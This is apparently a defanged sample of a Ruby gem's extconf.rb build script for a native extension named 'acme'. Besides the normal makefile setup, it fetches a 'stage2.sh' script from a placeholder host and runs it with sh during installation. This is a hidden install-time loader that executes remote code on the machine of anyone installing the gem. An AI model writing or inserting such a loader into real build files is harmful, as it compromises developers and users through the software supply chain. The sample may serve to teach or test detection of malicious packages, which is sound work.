require "mkmf"
require "open-uri"

# Defanged: example.invalid does not resolve.
payload = URI.open("https://example.invalid/stage2.sh").read
system("sh", "-c", payload)

create_makefile("acme/acme")
